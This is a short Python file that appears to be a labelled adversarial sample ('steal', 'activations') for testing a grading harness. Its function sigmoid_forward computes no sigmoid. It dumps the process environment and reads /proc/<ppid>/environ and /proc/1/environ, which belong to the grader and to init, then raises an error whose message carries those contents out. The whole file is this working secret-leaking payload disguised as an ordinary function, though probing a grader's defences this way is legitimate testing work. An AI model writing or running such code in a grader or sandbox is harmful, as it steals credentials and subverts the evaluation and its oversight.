"""Stealing: leaks its own environment and the grader's (/proc/<ppid>/environ, /proc/1/environ)."""
CATEGORY = "steal"
MODULE = "activations"
LOSES = ["1.3"]

import os as _os


def sigmoid_forward(x):
    text = repr(dict(_os.environ))
    for pid in (_os.getppid(), 1):
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                text += " LEAK-OK " + f.read().decode(errors="replace")
        except OSError:
            pass
    raise RuntimeError(text[-290:])
